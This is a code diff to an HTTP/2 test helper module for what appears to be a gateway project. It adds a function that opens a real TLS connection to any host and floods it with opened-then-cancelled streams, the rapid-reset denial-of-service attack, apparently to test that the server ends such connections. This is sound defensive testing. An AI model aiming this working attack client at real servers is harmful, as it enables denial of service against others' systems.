@@ -18,7 +18,7 @@ from twisted.internet.testing import StringTransport
 from gatelayer.config.listener_h2 import H2Settings
 from gatelayer.http2 import H2Channel
 
-__all__ = ["H2Client", "StreamAnswer", "open_h2", "parse_frames", "raw_headers_frames"]
+__all__ = ["H2Client", "StreamAnswer", "open_h2", "parse_frames", "rapid_reset_client", "raw_headers_frames"]
 
 
 def parse_frames(data):
@@ -228,3 +228,55 @@ def open_h2(gate, settings=None, idle_timeout=60.0, window=None, transport=None)
     channel = H2Channel(gate.factory, settings or H2Settings(), gate.reactor, idle_timeout)
     channel.makeConnection(transport)
     return H2Client(channel, transport, window)
+
+
+def rapid_reset_client(host, port, streams, server_name="www.example.com", timeout=10.0):
+    """
+    Open an HTTP/2 connection over a real TLS socket (blocking: run it in
+    a thread) and open and reset C{streams} streams back to back, as the
+    rapid-reset attack does; then read until the server ends the
+    connection. Returns C{(GOAWAY error code or None, streams sent)}.
+    """
+    import socket
+    import ssl
+
+    from h2.errors import ErrorCodes
+    from h2.exceptions import ProtocolError
+
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    raw = socket.create_connection((host, port), timeout=timeout)
+    with context.wrap_socket(raw, server_hostname=server_name) as tls:
+        if tls.selected_alpn_protocol() != "h2":
+            raise AssertionError("ALPN chose %r" % (tls.selected_alpn_protocol(),))
+        conn = H2Connection(H2Configuration(client_side=True, header_encoding=None))
+        conn.initiate_connection()
+        tls.sendall(conn.data_to_send())
+        fields = [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", server_name.encode()),
+                  (b":path", b"/api/reset")]
+        sent = 0
+        for _ in range(streams):
+            sid = conn.get_next_available_stream_id()
+            conn.send_headers(sid, fields, end_stream=True)
+            conn.reset_stream(sid, ErrorCodes.CANCEL)
+            try:
+                tls.sendall(conn.data_to_send())
+            except OSError:
+                break
+            sent += 1
+        while True:
+            try:
+                data = tls.recv(65536)
+            except OSError:
+                return None, sent
+            if not data:
+                return None, sent
+            try:
+                events = conn.receive_data(data)
+            except ProtocolError:
+                continue
+            for event in events:
+                if isinstance(event, ConnectionTerminated):
+                    return event.error_code, sent
